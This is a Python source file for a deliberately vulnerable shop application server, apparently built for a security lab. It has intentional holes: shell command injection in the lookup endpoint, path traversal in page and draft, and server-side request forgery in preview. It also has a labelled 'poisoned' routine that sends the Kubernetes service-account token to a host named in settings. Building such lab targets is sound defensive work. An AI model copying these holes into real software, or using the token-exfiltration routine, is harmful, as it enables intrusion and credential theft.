"""The shop's application server: redis, PostgreSQL, DNS, and one endpoint that can be injected.

``/shop/lookup?host=`` puts its argument into a shell, as careless programs do: the hole through
which the lab's attacks come in. ``page``, ``draft``, ``preview`` and ``mx`` trust theirs too, but start
nothing: what they are made to do happens in this process. Version 2 reads ``/srv/settings.json`` and does
a little more; version 3 is poisoned: for a minute it tells a stranger what it knows.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import socket
import socketserver
import subprocess
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

with contextlib.suppress(ImportError):  # absent where only the tests are
    import psycopg2  # type: ignore[import-untyped]
    from mqtt import publish  # type: ignore[import-not-found]
    from wire import redis  # type: ignore[import-not-found]

TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
SETTINGS = Path("/srv/settings.json")
CACHE, DB, BROKER = "cache.shop.internal", "db.shop.internal", "broker.shop.internal"
SHIPPED = Path("/var/log/shop")


def settings() -> dict[str, object]:
    """Read the settings: version 1 has none."""
    return dict(json.loads(SETTINGS.read_text())) if SETTINGS.exists() else {}


def item(number: str) -> str:
    """Look an item up: cache first, then the database."""
    found = redis(CACHE, "GET", f"item:{number}")
    if not found.startswith(b"$-1"):
        return "cached"
    with contextlib.closing(psycopg2.connect(host=DB, user="postgres", connect_timeout=3)) as line:
        with line, line.cursor() as cursor:
            cursor.execute("SELECT name, stock FROM items WHERE id = %s", (int(number),))
            row = str(cursor.fetchone())
    redis(CACHE, "SET", f"item:{number}", row, "EX", "20")
    return row


def order(number: str) -> str:
    """Take an order: a row in the database, a job for the worker, a word to the broker where there is one."""
    with contextlib.closing(psycopg2.connect(host=DB, user="postgres", connect_timeout=3)) as line:
        with line, line.cursor() as cursor:
            cursor.execute("INSERT INTO orders (item, customer) VALUES (%s, 'c')", (int(number),))
    kind = random.choice(["mail", "invoice", "picture", "webhook", "report", "attach", "notify", "verify"])
    redis(CACHE, "LPUSH", "jobs", json.dumps({"kind": kind, "item": number}))
    with contextlib.suppress(OSError):
        publish(BROKER, f"orders/{number}", kind)
    return "ordered"


def lookup(host: str) -> str:
    """Resolve a name the careless way: through a shell."""
    done = subprocess.run(["sh", "-c", f"getent hosts {host}"], capture_output=True, check=False)
    return done.stdout.decode("utf-8", "replace")


def export(_: str) -> str:
    """Write a small report to a temporary file, read it back, remove it."""
    path = Path(f"/tmp/export-{random.randrange(10**6)}.csv")
    path.write_text("\n".join(f"{n},{os.getpid()}" for n in range(50)))
    text = path.read_text()
    path.unlink()
    return str(len(text))


def pay(_: str) -> str:
    """Ask the payment partner; who that is stands in the settings."""
    TOKEN.read_text()
    partner = str(settings().get("payments", "pay.partner.example"))
    with socket.create_connection((partner, 443), timeout=3) as line:
        line.sendall(b"GET /pay HTTP/1.0\r\n\r\n")
        return line.recv(100).decode("latin-1")


def page(name: str) -> str:
    """Return a page of text; its name may lead anywhere."""
    return (Path("/srv/pages") / name).read_text(errors="replace")[:2000]


def draft(name: str) -> str:
    """Keep a draft for a moment; its name may lead anywhere."""
    path = Path("/tmp") / name
    path.write_text("draft\n")
    return str(len(path.read_text()))


def preview(link: str) -> str:
    """Show what stands behind a link: whoever it belongs to is asked."""
    with urllib.request.urlopen(link, timeout=3) as answer:
        return str(answer.read(200))


def mx(name: str) -> str:
    """Say where a name leads."""
    return str(socket.getaddrinfo(name, 25, socket.AF_INET)[:1])


def statistics(host: str) -> None:
    """Do what the poisoned version does: eight times the token to a host that nobody asked for."""
    for _ in range(8):
        with contextlib.suppress(OSError), socket.create_connection((host, 8080), timeout=3) as line:
            known = TOKEN.read_text().strip()
            line.sendall(f"PUT /s HTTP/1.0\r\nContent-Length: 0\r\nX: {known}\r\n\r\n".encode())
            line.recv(100)
        time.sleep(random.uniform(3, 6))


ROUTES = {
    "item": item,
    "order": order,
    "lookup": lookup,
    "export": export,
    "pay": pay,
    "page": page,
    "draft": draft,
    "preview": preview,
    "mx": mx,
}


class Handler(BaseHTTPRequestHandler):
    """``/shop/<route>?id=…`` and ``/health``."""

    def do_GET(self) -> None:
        """Answer one request; a failing neighbour is a 502, never a crash."""
        parts = urlsplit(self.path)
        values = parse_qs(parts.query)
        route = ROUTES.get(parts.path.removeprefix("/shop/"))
        argument = (values.get("id") or values.get("host") or ["1"])[0]
        try:
            status, text = (200, route(argument)) if route else (200, "ok")
        except Exception as error:
            status, text = 502, repr(error)
        with contextlib.suppress(OSError):
            self.send_response(status)
            self.end_headers()
            self.wfile.write(text.encode())

    def log_message(self, format: str, *values: object) -> None:
        """Append to the access log instead of the error output, and to the one that is shipped."""
        names = ["/tmp/access.log", *([f"{SHIPPED}/{socket.gethostname()}.log"] if SHIPPED.is_dir() else [])]
        for name in names:
            with open(name, "a") as log:
                log.write(f"{time.time():.3f} {format % values}\n")


class Server(ThreadingHTTPServer):
    """An HTTP server that starts without asking for its own name."""

    def server_bind(self) -> None:
        """Bind, and no more."""
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "app", 8080


if __name__ == "__main__":
    if stranger := settings().get("statistics"):
        threading.Thread(target=statistics, args=(str(stranger),), daemon=True).start()
    Server(("0.0.0.0", 8080), Handler).serve_forever()
